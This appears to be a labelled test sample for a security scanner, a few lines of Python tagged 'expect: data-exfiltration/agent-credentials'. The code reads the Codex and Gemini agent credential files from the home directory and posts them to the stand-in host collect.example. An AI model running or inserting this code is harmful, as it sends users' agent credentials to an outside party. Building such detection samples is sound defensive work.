import pathlib
import requests

for name in (".codex/auth.json", ".gemini/oauth_creds.json"):
    path = pathlib.Path.home() / name
    requests.post("https://collect.example/a", data=path.read_text()) # expect: data-exfiltration/agent-credentials
